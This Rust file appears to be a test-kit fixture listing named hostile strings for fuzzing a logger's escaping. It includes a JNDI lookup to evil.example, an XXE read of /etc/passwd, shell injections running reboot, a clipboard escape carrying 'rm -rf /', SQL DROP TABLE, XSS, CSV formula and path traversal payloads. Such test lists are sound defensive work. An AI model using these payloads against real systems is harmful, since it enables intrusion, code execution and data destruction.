//! Texts that attack whoever writes, stores or shows them.

/// A text that attacks a log, and what it tries.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct HostileString {
    /// What it tries, in a few words.
    pub name: &'static str,
    /// The text.
    pub text: String,
}

const SHORT: [(&str, &str); 58] = [
    ("line feed forges a record", "a\nINFO forged"),
    ("carriage return hides the line", "secret\rINFO forged"),
    ("both line ends", "a\r\n\r\nINFO forged"),
    ("next line", "a\u{85}INFO forged"),
    ("line separator", "a\u{2028}INFO forged"),
    ("paragraph separator", "a\u{2029}INFO forged"),
    ("vertical tab and form feed", "a\u{b}b\u{c}c"),
    ("tab", "a\tb"),
    ("clear the screen", "\u{1b}[2J\u{1b}[1;1H"),
    ("colour", "\u{1b}[31mred\u{1b}[0m"),
    ("window title", "\u{1b}]0;owned\u{7}"),
    ("hyperlink", "\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\"),
    ("clipboard", "\u{1b}]52;c;cm0gLXJmIC8K\u{7}"),
    ("device control string", "\u{1b}P1$r0m\u{1b}\\"),
    ("report of the terminal's answer", "\u{1b}[6n\u{1b}[c"),
    ("C1 control sequence", "\u{9b}2J"),
    ("C1 operating system command", "\u{9d}0;owned\u{9c}"),
    ("bell, backspace and delete", "\u{7}abc\u{8}\u{8}\u{8}\u{7f}"),
    ("NUL", "a\0b"),
    (
        "every C0 control",
        "\u{1}\u{2}\u{3}\u{4}\u{5}\u{6}\u{e}\u{f}\u{10}\u{11}\u{12}\u{13}\u{14}\u{15}\u{16}\u{17}\u{18}\u{19}\u{1a}\u{1c}\u{1d}\u{1e}\u{1f}",
    ),
    ("right to left override", "user\u{202e}nimda\u{202c}"),
    ("bidi isolates", "\u{2066}a\u{2067}b\u{2068}c\u{2069}"),
    ("bidi marks", "\u{200e}a\u{200f}b\u{61c}"),
    ("zero width", "ad\u{200b}m\u{200d}in\u{feff}"),
    ("tag characters", "a\u{e0001}\u{e0041}\u{e007f}"),
    ("not a character", "\u{fffe}\u{ffff}\u{10ffff}"),
    ("replacement character", "\u{fffd}"),
    ("outside the basic plane", "𝒳🦀\u{1f468}\u{200d}\u{1f469}"),
    ("jndi lookup", "${jndi:ldap://evil.example/x}"),
    ("nested lookup", "${${lower:j}ndi:${env:HOME}}"),
    ("printf", "%s%s%n%x%p"),
    ("Rust's braces", "{} {0} {:?} {{}}"),
    ("template", "{{7*7}} <%= 7*7 %> #{7*7} {message} {field.x}"),
    ("prototype", "__proto__"),
    ("JSON closes", "\"},{\"level\":\"ERROR\",\"message\":\"forged\"}"),
    ("JSON line", "\"}\n{\"level\":\"ERROR\"}"),
    ("backslashes", "\\ \\\\ \\n \\u0000 \\\""),
    ("single and back quotes", "'`\"`'"),
    ("XML tags", "</message></event><event>"),
    ("XML entity", "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>&a;"),
    ("CDATA end", "]]>"),
    ("CSV formula", "=cmd|' /C calc'!A1"),
    ("CSV at sign", "@SUM(1+9)*cmd"),
    ("CSV plus and minus", "+1-1"),
    ("CSV cell", "a,\"b\",\"\"\r\n=1"),
    ("logfmt pair", "x level=ERROR msg=forged"),
    ("syslog structured data", "x] \"\\ [forged@1 a=\"b\"]"),
    ("syslog frame", "x\n<0>1 - - - - - forged"),
    ("SQL", "'; DROP TABLE logs; --"),
    ("HTTP header", "x\r\nSet-Cookie: a=b\r\n\r\n<html>"),
    ("script", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
    ("link", "[click](javascript:alert(1))"),
    ("mention", "<!channel> @everyone <@U123>"),
    ("path", "../../../etc/cron.d/x"),
    ("Windows path and device", "C:\\con\\nul. "),
    ("shell", "$(reboot) `reboot` ; reboot | reboot"),
    ("secret", "password=hunter2 Authorization: Bearer abcdef0123456789"),
    ("blanks alone", "   "),
];

/// Texts that attack a log: line ends, terminal sequences, controls, bidi, lookups, other formats' syntax, and long
/// and empty ones. The list grows; do not count on its length.
///
/// ```
/// for hostile in tracework_testkit::hostile_strings() {
///     let line = format!("{:?}", hostile.text);
///     assert!(!line.contains('\n'), "{}", hostile.name);
/// }
/// ```
#[must_use]
pub fn hostile_strings() -> Vec<HostileString> {
    let short = SHORT.iter().map(|&(name, text)| (name, text.to_owned()));
    let long = [
        ("nothing", String::new()),
        ("a long line", "x".repeat(100_000)),
        ("a long line of wide letters", "界".repeat(30_000)),
        ("a thousand marks on a letter", format!("a{}", "\u{301}".repeat(10_000))),
        ("many line ends", "\n".repeat(5_000)),
        ("many quotes", "\"".repeat(5_000)),
        ("deep nesting", format!("{}{}", "[".repeat(10_000), "]".repeat(10_000))),
        ("slow for a backtracking pattern", format!("{}!", "a".repeat(5_000))),
    ];
    short.chain(long).map(|(name, text)| HostileString { name, text }).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn each_has_a_name_of_its_own() {
        let all = hostile_strings();
        assert_eq!(all.iter().map(|hostile| hostile.name).collect::<HashSet<_>>().len(), all.len());
        assert_eq!(all.iter().map(|hostile| &hostile.text).collect::<HashSet<_>>().len(), all.len());
    }
}
